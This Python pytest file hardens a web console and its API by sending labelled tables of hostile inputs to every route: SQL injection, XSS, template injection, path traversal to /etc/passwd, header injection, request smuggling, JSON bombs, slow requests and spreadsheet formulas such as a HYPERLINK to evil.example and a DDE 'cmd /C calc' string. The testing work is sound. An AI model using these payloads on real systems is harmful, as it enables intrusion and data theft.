"""Attacks, as labelled tables, against the API and every page that there is: pages are taken from the application's own
list of routes, so that a new one is attacked too.
"""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import time
import zipfile
from collections.abc import Iterator
from html import unescape
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlencode

import openpyxl
import pytest
from fastapi import FastAPI
from fastapi.routing import APIRoute
from sqlalchemy import func, insert, select, update

from config.values import Address
from console.api import mount_api
from console.board_tokens import add_board_token
from console.directory import Entry, EntryKind, import_entries
from console.exports import ExportDesk
from console.limits import BODY_BYTES, RateLimit
from console.mounting import WholeMount
from console.pages import app as pages
from console.pages.guard import BODY_BYTES as FORM_BYTES
from console.pages.guard import HEADERS, Guard
from console.pages.options import RatingsOptions
from console.pages.shell import BOARD_COOKIE, Console
from console.passwords import Passwords
from console.tokens import Scope
from console.viewer import ConsoleRole
from models.clock import TurnedClock
from models.database import Database
from models.door import Door
from models.ids import new_id
from models.privacy import Keyring
from models.tables import audit, calls, cases, evaluations, messages, metadata, ratings, users
from server.health import HealthServer
from tests.console.browser import Browser, Page
from tests.console.conftest import Client, MakeToken
from tests.console.exported import ask
from tests.console.site import PASSWORD, QUICK, MakeBrowser, MakeUser, Record
from tests.console.site import RULES as SESSIONS
from tests.intake.test_cases import RULES
from tests.moments import START

ROLES = (ConsoleRole.SUPERVISOR, ConsoleRole.DEPARTMENT, ConsoleRole.AUDITOR, ConsoleRole.ADMIN)
OPEN = {"/login", "/wall", "/static/{name}", "/favicon.ico"}
"""Pages that need no session."""
MARK = "zq7"
"""In every hostile text, so that a page that shows one is known."""
MARKUP = f"{MARK}<script>alert(1)</script>\"'><img src=x onerror=alert(2)>{{{{7*7}}}}"
HOSTILE = {
    "quote": "' OR '1'='1",
    "second statement": "'; DROP TABLE evaluations; --",
    "union": "1 UNION SELECT password_hash FROM users --",
    "comment": "x'/**/AND/**/1=1--",
    "sleep": "1); SELECT pg_sleep(30); --",
    "wildcards": "%_\\%",
    "markup": MARKUP,
    "formula": '=HYPERLINK("http://evil.example","x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "template": "{{7*7}}{% for x in (1).__class__.__base__.__subclasses__() %}x{% endfor %}${7*7}",
    "path": "../../../../etc/passwd",
    "nul": "a\x00b",
    "line breaks": "a\r\nSet-Cookie: huiyin_session=evil\r\n\r\n<html>",
    "right to left": "\u202egnp.exe",
    "not a character": "\udcff",
    "long": "9" * 4000,
    "number": str(2**63),
    "negative": "-1",
    "nan": "NaN",
    "far day": "9999-12-31",
    "first day": "0001-01-01",
    "deep": "[" * 2000,
}


@pytest.fixture
def api_too(console: Console, door: Door, keyring: Keyring, clock: TurnedClock) -> Iterator[HealthServer]:
    """The API and the pages, as the process serves them; no limit of requests, and less time for a body."""
    app = FastAPI(docs_url=None, redoc_url=None, openapi_url=None)
    mount_api(app, door, keyring, clock, RULES, limit=RateLimit(most=10**6))
    app.router.routes.append(WholeMount("", Guard(pages.pages_app(console), console.error_page, body_seconds=2)))
    made = HealthServer(app, Address("127.0.0.1", 0), "console.listen")
    made.start()
    yield made
    made.stop()


def routes_of(console: Console, *methods: str) -> list[str]:
    """The addresses of every page of these methods, by the list that the process serves."""
    spare = Console(console.door, console.keyring, console.clock, console.rules, console.hotline)
    served = every_route(pages.pages_app(spare))
    found = sorted(
        {route.path for route in served if not set(methods).isdisjoint(route.methods or ())}
        - {"/live", "/wall/live"}  # these never end; tests/console/test_live.py attacks them
    )
    assert len(found) >= 5, "the pages' routes were not found"
    return found


def every_route(router: Any) -> Iterator[APIRoute]:
    for route in router.routes:
        if isinstance(route, APIRoute):
            yield route
        else:
            inner = getattr(route, "original_router", None) or getattr(route, "app", None)
            if hasattr(inner, "routes"):
                yield from every_route(inner)


def filled(path: str, value: str) -> str:
    """An address with its places filled."""
    return re.sub(r"\{[^}]+\}", quote(value, safe="", errors="surrogateescape"), path)


def names_in(text: str) -> set[str]:
    """What a page itself asks for by query: the fields of its forms and the names in its links."""
    found = set(re.findall(r'<(?:input|select|textarea)\b[^>]*\bname="([^"]+)"', text))
    for link in re.findall(r'href="[^"?]*\?([^"]*)"', text):
        found |= {part.partition("=")[0] for part in unescape(link).split("&")}
    return found


USUAL = {"from", "to", "day", "range", "level", "satisfaction", "channel", "origin", "agent", "queue", "dept", "area"}
USUAL |= {"q", "case_no", "number", "tail", "cursor", "limit", "sort", "order", "page", "by", "id", "kind", "next"}
USUAL |= {"token", "actor", "action", "machines", "done", "reason", "state", "after", "view"}


@pytest.fixture
def everybody(browser: MakeBrowser) -> dict[ConsoleRole, Browser]:
    return {role: browser(role, depts=["D1"] if role is ConsoleRole.DEPARTMENT else ()) for role in ROLES}


def tables_stand(database: Database) -> None:
    """Every table is there, and nobody was added."""
    with database.read_engine.connect() as connection:
        for table in metadata.tables.values():
            connection.execute(select(func.count()).select_from(table)).scalar_one()
        assert connection.execute(select(func.count()).select_from(users)).scalar_one() == len(ROLES)


def assert_plain(page: Page, what: str) -> None:
    """An answer that is none of ours to be ashamed of."""
    assert page.status < 500, f"{what}: {page.status}"
    assert all(page.headers.get(name.lower()) == value for name, value in HEADERS.items()), what
    assert "huiyin_session=evil" not in str(page.headers), what
    assert "alert(1)</script>" not in page.text, what
    assert "<img src=x" not in page.text, what
    assert "root:x:" not in page.text, what
    assert "Traceback" not in page.text, what
    assert "argon2" not in page.text, what


# ── every page ────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.slow
@pytest.mark.timeout(400)
def test_hostile_queries_break_no_page(
    console: Console, everybody: dict[ConsoleRole, Browser], record: Record, database: Database
) -> None:
    record.call("D1", number="13800001234")
    for path in routes_of(console, "GET"):
        for role, someone in everybody.items():
            plain = someone.get(filled(path, "1"))
            assert_plain(plain, f"{path} as {role}")
            if plain.status in {303, 403} and role is not ConsoleRole.SUPERVISOR:
                continue
            names = sorted(USUAL | names_in(plain.text))
            for label, value in HOSTILE.items():
                sent = value.encode("utf-8", "surrogateescape")
                short = sent[:200]  # all names at once still fit into a head
                for query in (urlencode(dict.fromkeys(names, short)), urlencode({f"{label}[]": sent})):
                    assert_plain(someone.get(f"{filled(path, '1')}?{query}"), f"{path} as {role}: {label}")
    tables_stand(database)


@pytest.mark.slow
@pytest.mark.timeout(400)
def test_each_hostile_value_alone_breaks_no_page(console: Console, everybody: dict[ConsoleRole, Browser]) -> None:
    """A first name that is refused would hide what the others do: each is asked alone, by whoever the page is for."""
    for path in routes_of(console, "GET"):
        for role, someone in everybody.items():
            plain = someone.get(filled(path, "1"))
            if plain.status != 200 or path in OPEN:
                continue
            for name in sorted(names_in(plain.text) - {"csrf"}):
                for label, value in HOSTILE.items():
                    query = urlencode({name: value.encode("utf-8", "surrogateescape")})
                    page = someone.get(f"{filled(path, '1')}?{query}")
                    assert_plain(page, f"{path}?{name} as {role}: {label}")


@pytest.mark.slow
@pytest.mark.timeout(400)
def test_hostile_places_in_addresses_break_no_page(
    console: Console, everybody: dict[ConsoleRole, Browser], database: Database
) -> None:
    for path in routes_of(console, "GET"):
        if "{" in path:
            for role, someone in everybody.items():
                for label, value in HOSTILE.items():
                    assert_plain(someone.get(filled(path, value)), f"{path} as {role}: {label}")
    tables_stand(database)


def test_every_page_is_kept_by_nobody_and_loads_nothing_inline(
    console: Console, everybody: dict[ConsoleRole, Browser]
) -> None:
    shown = 0
    for path in routes_of(console, "GET"):
        for someone in everybody.values():
            page = someone.get(filled(path, "1"))
            assert {name: page.headers.get(name.lower()) for name in HEADERS} == HEADERS, path
            assert page.headers["cache-control"] == "no-store", path
            assert not re.search(r"<[^>]* (?:style|on\w+)=|<script(?! src)|<style|javascript:", page.text), path
            shown += page.status == 200
    assert shown >= len(ROLES)


def test_without_a_session_no_page_is_shown(console: Console, browser: MakeBrowser) -> None:
    for path in routes_of(console, "GET"):
        page = browser().get(filled(path, "1"))
        if path not in OPEN:
            assert (page.status, page.to.partition("?")[0]) in {(303, "/login"), (401, "")}, path


# ── forms ─────────────────────────────────────────────────────────────────────────────────────────────────────────────


def test_no_form_is_taken_without_its_secret(
    console: Console, everybody: dict[ConsoleRole, Browser], browser: MakeBrowser, database: Database
) -> None:
    stolen = browser(ConsoleRole.SUPERVISOR, "thief").get("/account/password").hidden("csrf")
    forms = routes_of(console, "POST", "PUT", "PATCH", "DELETE")
    assert {"/login", "/logout", "/people", "/reveal"} <= set(forms)
    before = _written(database)
    for path in forms:
        for role, someone in everybody.items():
            for label, fields in {
                "none": {},
                "empty": {"csrf": ""},
                "another session's": {"csrf": stolen},
                "not ascii": {"csrf": "令牌"},
                "nul": {"csrf": "\x00"},
            }.items():
                fields = {"name": "eve", "role": "admin", "kind": "call", "id": "0" * 32, "reason": "because", **fields}
                page = someone.post(filled(path, "1"), fields)
                assert page.status in {400, 403}, f"{path} as {role}: {label} gave {page.status}"
                assert_plain(page, path)
            for label, headers in {
                "from another site": {"Sec-Fetch-Site": "cross-site"},
                "from a neighbour": {"Sec-Fetch-Site": "same-site"},
                "as JSON": {"Content-Type": "application/json"},
                "as text": {"Content-Type": "text/plain"},
            }.items():
                secret = someone.get("/account/password").hidden("csrf")
                page = someone.ask("POST", filled(path, "1"), f"csrf={secret}".encode(), headers)
                assert page.status in {400, 403}, f"{path} as {role}: {label} gave {page.status}"
    assert _written(database) == before, "something was written"


def _written(database: Database) -> list[Any]:
    with database.read_engine.connect() as connection:
        return [
            connection.execute(select(func.count()).select_from(table)).scalar_one() for table in (users, audit, cases)
        ]


def test_a_planted_session_is_not_taken_over(site: HealthServer, user: MakeUser) -> None:
    user()
    for planted in ("0" * 43, "planted", "", "../x", "\u00ff", "a" * 5000):
        victim = Browser(site.address)
        victim.cookies["huiyin_session"] = quote(planted)
        victim.log_in("ma", PASSWORD)
        assert victim.cookies["huiyin_session"] != quote(planted)
        attacker = Browser(site.address, cookies={"huiyin_session": quote(planted)})
        assert attacker.get("/").to == "/login", planted


def test_a_session_in_the_address_is_none(browser: MakeBrowser) -> None:
    someone = browser(ConsoleRole.SUPERVISOR)
    token = someone.cookies["huiyin_session"]
    for path in (f"/?huiyin_session={token}", f"/;huiyin_session={token}", f"/?token={token}"):
        assert browser().get(path).status in {303, 404}


# ── what people wrote ─────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.fixture
def hostile_record(database: Database, record: Record, user: MakeUser) -> None:
    """Every text of the record is an attack: it came from a caller, a citizen, a case system or the centre."""
    with database.write_engine.begin() as connection:
        for dept in ("D1", None):
            call, case = record_ids(connection, dept)
            connection.execute(
                insert(messages).values(
                    id=new_id(),
                    direction="in",
                    kind="reply",
                    state="read",
                    text=MARKUP,
                    our_number="10691234507",
                    queue="unclear",
                    queue_note=MARKUP,
                    created_at=START,
                    changed_at=START,
                )
            )
            assert call != case
        connection.execute(
            insert(audit).values(id=new_id(), at=START, actor=f"user:{MARK}<b>", action=f"{MARK}<i>", detail=MARKUP)
        )


def record_ids(connection: Any, dept: str | None) -> tuple[str, str]:
    call, case = new_id(), new_id()
    short = MARKUP[:60]
    connection.execute(
        insert(calls).values(
            subject_id=call,
            call_key=f"{call}{short}",
            agent=short,
            queue=short,
            dept=dept,
            case_no=MARKUP,
            outcome="rated",
            source="ivr",
            created_at=START,
        )
    )
    connection.execute(
        insert(cases).values(
            subject_id=case,
            case_no=f"{case}{MARKUP}",
            service_number=1,
            stub=False,
            title=MARKUP,
            task_name=MARKUP,
            dept_code=dept,
            dept_name=MARKUP,
            agent=short,
            area_code="622900",
            created_at=START,
        )
    )
    for subject, kind in ((call, "call"), (case, "case")):
        rating = new_id()
        common = {"satisfaction": 1, "channel": "sms", "origin": "citizen", "comment": MARKUP, "created_at": START}
        connection.execute(
            insert(ratings).values(
                id=rating,
                raw_input=MARKUP,
                key_map="12345",
                rated_at=START,
                late=False,
                call_subject_id=subject if kind == "call" else None,
                **common,
            )
        )
        connection.execute(
            insert(evaluations).values(
                subject_id=subject,
                assess_number=1,
                id=new_id(),
                rating_id=rating,
                subject_kind=kind,
                effective=True,
                assess_time=START,
                project_no=short[:50],
                service_number=1,
                agent=short,
                queue=short,
                dept_code=dept,
                dept_name=MARKUP,
                task_name=MARKUP,
                service_name=MARKUP,
                area_code="622900",
                centre_status="rejected",
                centre_note=MARKUP,
                **common,
            )
        )
    return call, case


@pytest.mark.usefixtures("hostile_record")
def test_what_people_wrote_is_never_markup(
    console: Console, everybody: dict[ConsoleRole, Browser], database: Database, browser: MakeBrowser
) -> None:
    """Also a user's name, which no form would take, and a wall screen's."""
    with database.write_engine.begin() as connection:
        connection.execute(update(users).where(users.c.role == "supervisor").values(name=MARKUP[:60]))
        wall = add_board_token(connection, START, "wall", actor="command_line")
    someone = browser()
    someone.cookies[BOARD_COOKIE] = wall
    ids = _ids(database)
    shown = 0
    for path in routes_of(console, "GET"):
        for place in ids if "{" in path else ("1",):
            for asker in (*everybody.values(), someone):
                page = asker.get(filled(path, place))
                assert_plain(page, path)
                text = page.text
                assert f"{MARK}<" not in text, path
                assert "alert(2)&gt;49" not in text, f"{path}: a text was taken for a template"
                shown += MARK in text
    assert shown >= 2, "no page showed a hostile text, so nothing was looked at"


def _ids(database: Database) -> list[str]:
    with database.read_engine.connect() as connection:
        found = [
            row[0]
            for column in (evaluations.c.id, calls.c.subject_id, cases.c.subject_id, messages.c.id)
            for row in connection.execute(select(column).limit(2))
        ]
    assert len(found) == 8
    return found


# ── what people wrote, in a spreadsheet ───────────────────────────────────────────────────────────────────────────────

FORMULAS = {
    "link": '=HYPERLINK("http://evil.example/?x="&A1,"zq7")',
    "command": "=cmd|' /C calc'!A0zq7",
    "plus": "+1+zq7",
    "minus": "-1-zq7",
    "at": "@SUM(1+1)*zq7",
    "tab": "\t=zq7",
    "return": "\r=zq7",
    "line feed": "\n=zq7",
    "space": " =zq7",
    "space that is none": "\u00a0=zq7",
    "full width": "＝zq7",
    "full-width plus": "＋zq7",
    "full-width at": "＠zq7",
    "a cell that ends": 'x",=zq7',
    "a line that ends": "x\r\n=zq7",
}
"""Each becomes an agent and their name, a queue, a department's and a task's name, a case's title, an SMS's words."""


@pytest.fixture
def exporting(
    door: Door, keyring: Keyring, clock: TurnedClock, database: Database, tmp_path: Path
) -> Iterator[HealthServer]:
    """The pages, with exports that a child process really makes."""
    keyring.save(tmp_path / "keys" / "privacy.key")
    url = database.url.render_as_string(hide_password=False)
    desk = ExportDesk(url, str(tmp_path / "keys" / "privacy.key"), reasons={"209": "=zq7"})
    options = RatingsOptions(exports=desk)
    console = Console(door, keyring, clock, SESSIONS, "临夏州12345", Passwords(QUICK), ratings=options)
    app = FastAPI(docs_url=None, redoc_url=None, openapi_url=None)
    pages.mount_pages(app, console)
    made = HealthServer(app, Address("127.0.0.1", 0), "console.listen")
    made.start()
    yield made
    made.stop()


def test_no_text_is_a_formula_in_a_spreadsheet(exporting: HealthServer, database: Database, user: MakeUser) -> None:
    entries = []
    with database.write_engine.begin() as connection:
        for text in FORMULAS.values():
            record_of(connection, text)
            entries.append(Entry(EntryKind.AGENT, text, text, text))
        import_entries(connection, START, entries, replace=False, actor="command_line")
    someone = Browser(exporting.address)
    someone.log_in(user(), PASSWORD)
    for form in ("csv", "xlsx"):
        status, _, content = ask(someone, format=form)
        assert status == 200
        cells, formulas = cells_of(content, form)
        assert formulas == [], form
        for label, text in FORMULAS.items():
            there = [cell for cell in cells if shown_text(cell) == shown_text(text)]
            assert len(there) >= 8, f"{label} in {form}: not everywhere, so nothing was looked at"


def record_of(connection: Any, text: str) -> None:
    """A case of which each free text is this one, and its rating."""
    subject = new_id()
    common = {"subject_id": subject, "service_number": 1, "dept_name": text, "task_name": text, "created_at": START}
    connection.execute(insert(cases).values(case_no=f"{text}{subject}", stub=False, title=text, **common))
    connection.execute(
        insert(evaluations).values(
            id=new_id(),
            rating_id=new_id(),
            assess_number=1,
            subject_kind="case",
            effective=True,
            satisfaction=1,
            origin="citizen",
            channel="sms",
            assess_time=START,
            project_no=text,
            agent=text,
            queue=text,
            reasons="209",
            comment=text,
            **common,
        )
    )


STARTS = tuple("=+-@＝＋－＠")


def cells_of(content: bytes, form: str) -> tuple[list[str], list[str]]:
    """The texts of an exported file, and those of them that a spreadsheet would calculate."""
    if form == "csv":
        lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
        cells = [cell for line in lines for cell in line]
        assert len(lines) == len(FORMULAS) + 1, "a text ended its line"
        return cells, [cell for cell in cells if cell.strip().startswith(STARTS) or cell[:1] in {"\t", "\r", "\n"}]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    found = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert sheet.max_row == len(FORMULAS) + 1
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        told = b"".join(parts.read(name) for name in parts.namelist() if name.startswith("xl/"))
    assert b"<f>" not in told
    assert b"<f " not in told
    assert b"hyperlink" not in told.lower().replace(b"=hyperlink(", b"")
    return [str(cell.value) for cell in found], [str(cell.value) for cell in found if cell.data_type == "f"]


def shown_text(cell: str) -> str:
    """Without the apostrophe that says that it is a text, and what an XML file writes for a return."""
    return re.sub(r"\s", "", cell.replace("_x000D_", "").removeprefix("'"))


# ── paths, methods, heads ─────────────────────────────────────────────────────────────────────────────────────────────

TRICKS = {
    "up": "/../../../../etc/passwd",
    "up, encoded": "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "up, encoded twice": "/%252e%252e/%252e%252e/etc/passwd",
    "up from static": "/static/../../../../etc/passwd",
    "up from static, encoded": "/static/..%2f..%2f..%2fetc%2fpasswd",
    "up from static, encoded twice": "/static/..%252f..%252fetc%252fpasswd",
    "up from static, with backslashes": "/static/..%5c..%5cetc%5cpasswd",
    "up, overlong": "/static/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "absolute": "/static//etc/passwd",
    "absolute, encoded": "/static/%2fetc%2fpasswd",
    "nul": "/static/huiyin.css%00.svg",
    "nul in a page": "/people%00",
    "a page's head": "/people%0d%0aX-Evil:%201",
    "two slashes": "//people",
    "two slashes to elsewhere": "//evil.example/%2e%2e",
    "a parameter": "/people;x=1",
    "a dot": "/./people",
    "capitals": "/PEOPLE",
    "a source": "/static/shell.py",
    "the catalogue": "/static/zh.toml",
    "very long": "/" + "a" * 20_000,
    "not UTF-8": "/%ff%fe%fd",
    "half an escape": "/%",
    "a word of the API": "/api/../people",
    "the API's word": "/api/v1/cases/..%2f..%2fpeople",
}


@pytest.mark.parametrize("path", TRICKS.values(), ids=TRICKS.keys())
def test_no_path_leads_past_the_log_in_or_to_a_file(api_too: HealthServer, path: str) -> None:
    answer = raw(api_too.address, f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
    status = status_of(answer)
    assert status in {303, 400, 401, 404, 414, 431}, status
    assert b"root:" not in answer
    assert b"X-Evil" not in answer.partition(b"\r\n\r\n")[0]
    if status == 303:
        assert re.search(rb"(?i)location: /login(\?[\w%=.&-]*)?\r\n", answer)


def test_a_method_is_overridden_by_nothing(api_too: HealthServer, token: MakeToken, database: Database) -> None:
    secret = token("reader", Scope.READ)
    reader = Client(api_too.address, secret)
    for name in ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "_method"):
        assert reader.ask("POST", "/api/v1/evaluations", headers={name: "GET"}).status == 405
        assert reader.ask("GET", "/api/v1/cases/GD-1?_method=DELETE", headers={name: "PATCH"}).status == 422
    for method in ("PUT", "DELETE", "TRACE", "OPTIONS", "PROPFIND", "CONNECT", "HEAD"):
        for path in ("/login", "/people", "/static/x"):
            answer = raw(api_too.address, f"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            assert status_of(answer) in {303, 400, 404, 405}, (method, path)
    tables = _written(database)
    assert tables[0] == 0


@pytest.mark.parametrize(
    "host",
    [
        "evil.example",
        "[",
        "[::1",
        "x y",
        '"><script>alert(1)</script>',
        "evil.example:99999999",
        "a" * 5000,
        "",
        "\xff",
    ],
)
def test_a_host_that_is_not_ours_changes_nothing(api_too: HealthServer, token: MakeToken, host: str) -> None:
    for path in ("/login", "/", "/people/boards", "/favicon.ico", "/api/v1/evaluations"):
        head = f"GET {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n".encode("latin-1")
        for more in (b"", b"X-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: https\r\nForwarded: host=evil\r\n"):
            answer = raw(api_too.address, head + more + b"\r\n")
            assert status_of(answer) < 500, (path, answer[:200])
            assert b"evil" not in answer, path
            assert b"alert(1)" not in answer, path
            assert b"__Host-" not in answer, "nobody told us of https whom we believe"


@pytest.mark.parametrize(
    "head",
    [
        pytest.param(b"Content-Length: 5\r\nContent-Length: 6\r\n", id="two lengths"),
        pytest.param(b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", id="length and chunks"),
        pytest.param(b"Transfer-Encoding: chunked, identity\r\n", id="two encodings"),
        pytest.param(b"Transfer-Encoding : chunked\r\n", id="a space before the colon"),
        pytest.param(b"Content-Length: +5\r\n", id="a signed length"),
        pytest.param(b"X-A: 1\r\n : folded\r\n", id="a folded line"),
        pytest.param(b"X-A: " + b"a" * 200_000 + b"\r\n", id="a head too large"),
        pytest.param(b"".join(b"X-%d: 1\r\n" % place for place in range(20_000)), id="many heads"),
        pytest.param(b"X-A: a\x00b\r\n", id="nul"),
        pytest.param(b"Cookie: " + b"a=1; " * 5000 + b"\r\n", id="many cookies"),
        pytest.param(b"Cookie: huiyin_session=\xff\xfe; huiyin_login=\x80\r\n", id="bytes in cookies"),
        pytest.param(b"Authorization: Bearer \xff\r\n", id="bytes in a token"),
        pytest.param(b"Upgrade: websocket\r\nConnection: Upgrade\r\n", id="another protocol"),
        pytest.param(b"Expect: 200-nothing\r\n", id="an expectation"),
        pytest.param(b"Range: bytes=0-1,2-3,0-99999999999\r\n", id="ranges"),
    ],
)
def test_a_head_that_is_an_attack_is_refused_or_means_nothing(api_too: HealthServer, head: bytes) -> None:
    for method, path in ((b"POST", b"/login"), (b"POST", b"/api/v1/cases"), (b"GET", b"/login")):
        sent = method + b" " + path + b" HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" + head + b"\r\nhello"
        answer = raw(api_too.address, sent)
        assert answer == b"" or status_of(answer) < 500, (method, path, answer[:200])
        assert answer.count(b"HTTP/1.1 ") <= 1, "one request, one answer"


def test_nothing_that_is_sent_becomes_a_head(api_too: HealthServer) -> None:
    for text in ("%0d%0aX-Evil:%201", "%0aX-Evil:%201", "%0dX-Evil:%201", "%E5%98%8A%E5%98%8DX-Evil:%201"):
        for path in (f"/people?x={text}", f"/{text}", f"/login?next=/{text}", f"/wall?token={text}"):
            answer = raw(api_too.address, f"GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode())
            assert status_of(answer) < 500
            assert not re.search(rb"(?im)^X-Evil", answer.partition(b"\r\n\r\n")[0]), path


# ── the API ───────────────────────────────────────────────────────────────────────────────────────────────────────────


def test_hostile_filters_find_nothing_and_break_nothing(
    api_too: HealthServer, token: MakeToken, record: Record, database: Database
) -> None:
    record.call("D1")
    reader = Client(api_too.address, token("reader", Scope.READ))
    names = ("from", "to", "satisfaction", "channel", "agent", "dept", "origin", "case_no", "cursor", "limit", "by")
    for label, value in HOSTILE.items():
        sent = value.encode("utf-8", "surrogateescape")
        for path in ("/api/v1/evaluations", "/api/v1/statistics", "/api/v1/cases/GD-1"):
            for name in (*names, "service_number", label):
                reply = reader.get(f"{path}?{urlencode({name: sent})}")
                assert reply.status in {200, 404, 422}, f"{path}?{name}: {label} gave {reply.status}"
                if name in {"agent", "dept", "case_no"} and reply.status == 200:
                    assert reply.body["evaluations"] == [], f"{name}: {label}"
                assert reply.headers["content-type"] == "application/json"
        assert reader.get(f"/api/v1/cases/{quote(sent, safe='')}").status == 404, label
    with database.read_engine.connect() as connection:
        assert connection.execute(select(func.count()).select_from(evaluations)).scalar_one() == 1


def test_hostile_words_of_a_case_come_back_as_they_were(api_too: HealthServer, token: MakeToken) -> None:
    system = Client(api_too.address, token())
    for place, (label, value) in enumerate(HOSTILE.items()):
        case = {"case_no": f"GD-{place}", "phone": None, "closed_at": "2026-11-18T09:50:00", "title": value}
        reply = system.post(case)
        assert reply.status in {201, 422}, label
        assert reply.headers["x-content-type-options"] == "nosniff"
        if reply.status == 201:
            title = system.case(f"GD-{place}").body["title"]
            assert title is None or set(title) <= set(value) | set("*"), label
            assert not re.search(r"[\x00-\x1f]", title or ""), label
        for field in ("case_no", "agent", "dept_code", "task_code", "batch_id", "lang", "closed_at", "phone", value):
            assert system.post({**case, field: value}).status in {200, 201, 409, 422}, (label, field)
            assert system.patch(f"GD-{place}", {field: value}).status in {200, 404, 409, 422}, (label, field)


def test_tokens_that_are_none(api_too: HealthServer) -> None:
    for secret in ("hy_", "hy_' OR 1=1 --", "hy_" + "a" * 60_000, "hy_\xff", "hy_%00", "null", "hy_*"):
        reply = _authorised(api_too.address, f"Bearer {secret}")
        assert reply in {401, 431, 400}, secret[:20]


def _authorised(address: Address, value: str) -> int:
    head = f"GET /api/v1/evaluations HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: {value}\r\n\r\n"
    return status_of(raw(address, head.encode("latin-1")))


def test_the_api_takes_no_cookie_and_the_pages_no_token(
    api_too: HealthServer, token: MakeToken, user: MakeUser
) -> None:
    user()
    someone = Browser(api_too.address)
    someone.log_in("ma", PASSWORD)
    page = someone.get("/api/v1/evaluations")
    assert page.status == 401
    assert page.headers["cache-control"] == "no-store"
    bearer = Browser(api_too.address, headers={"Authorization": f"Bearer {token('reader', Scope.READ)}"})
    assert bearer.get("/").to == "/login"


# ── large and slow ────────────────────────────────────────────────────────────────────────────────────────────────────


def test_bodies_too_large_are_not_read(api_too: HealthServer, token: MakeToken) -> None:
    secret = token()
    for path, more, length, status in (
        ("/login", "", FORM_BYTES + 1, 413),
        ("/api/v1/cases", f"Authorization: Bearer {secret}\r\n", BODY_BYTES + 1, 413),
        ("/api/v1/cases", "", 10**12, 401),
        ("/nothing", "", 10**12, 413),
    ):
        head = f"POST {path} HTTP/1.1\r\nHost: x\r\n{more}Content-Length: {length}\r\n\r\n"
        with connected(api_too.address) as open_socket:
            open_socket.sendall(head.encode())
            assert status_of(open_socket.recv(200)) == status, path


def test_json_that_is_a_bomb(api_too: HealthServer, token: MakeToken) -> None:
    system = Client(api_too.address, token())
    for label, body in {
        "deep lists": b"[" * 500_000 + b"]" * 500_000,
        "deep objects": b'{"a":' * 200_000 + b"1" + b"}" * 200_000,
        "a long number": b'{"case_no": ' + b"9" * 100_000 + b"}",
        "many fields": json.dumps({f"f{place}": 1 for place in range(50_000)}).encode(),
        "many items": json.dumps([1] * 100_000).encode(),
        "a name again and again": b"{" + b'"phone":"1",' * 100_000 + b'"phone":"2"}',
    }.items():
        began = time.monotonic()
        reply = system.ask("POST", "/api/v1/cases", raw=body)
        assert reply.status in {400, 413, 422}, label
        assert time.monotonic() - began < 20, label


@pytest.mark.parametrize("kind", ["head", "body of a form", "body of the API", "body of nobody"])
def test_a_slow_request_ends(
    api_too: HealthServer, token: MakeToken, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    """A byte now and then keeps no connection: each has its time as a whole. The limits are real, and shortened."""
    monkeypatch.setattr("server.health.HEAD_SECONDS", 0.4)
    monkeypatch.setattr("server.health.LINGER_SECONDS", 0.4)
    monkeypatch.setattr("console.api.BODY_SECONDS", 0.4)
    path, more = {
        "head": ("/login", ""),
        "body of a form": ("/login", "Content-Type: application/x-www-form-urlencoded\r\n"),
        "body of the API": ("/api/v1/cases", f"Authorization: Bearer {token()}\r\n"),
        "body of nobody": ("/api/v1/cases", ""),
    }[kind]
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\n{more}Content-Length: 10000\r\n"
    began = time.monotonic()
    with connected(api_too.address) as open_socket:
        open_socket.sendall(head.encode() if kind == "head" else f"{head}\r\n".encode())
        dripped(open_socket, began)
    assert time.monotonic() - began < 25


def dripped(open_socket: socket.socket, began: float) -> None:
    """Sends a byte ten times a second until the connection ends from there."""
    open_socket.settimeout(0.1)
    while time.monotonic() - began < 30:
        try:
            open_socket.sendall(b"x")
            if open_socket.recv(10_000) == b"":
                return
        except TimeoutError:
            continue
        except (BrokenPipeError, ConnectionResetError):
            return
    pytest.fail("the connection is still open after 30 s")


def test_many_slow_requests_leave_room_for_others(api_too: HealthServer) -> None:
    waiting = [connected(api_too.address) for _ in range(200)]
    try:
        for place, one in enumerate(waiting):
            one.sendall(b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n" + b"\r\n" * (place % 2))
        began = time.monotonic()
        assert Browser(api_too.address).get("/login").status == 200
        assert time.monotonic() - began < 10
    finally:
        for one in waiting:
            one.close()


# ── plain sockets ─────────────────────────────────────────────────────────────────────────────────────────────────────


def connected(address: Address) -> socket.socket:
    return socket.create_connection((address.host, address.port), timeout=20)


def raw(address: Address, sent: bytes) -> bytes:
    """What comes back until the connection ends."""
    with connected(address) as open_socket:
        found = b""
        try:
            open_socket.sendall(sent)
            while piece := open_socket.recv(65536):
                found += piece
        except (BrokenPipeError, ConnectionResetError):
            pass
        return found


def status_of(answer: bytes) -> int:
    found = re.match(rb"HTTP/1\.1 (\d{3})", answer)
    assert found is not None, answer[:100]
    return int(found[1])
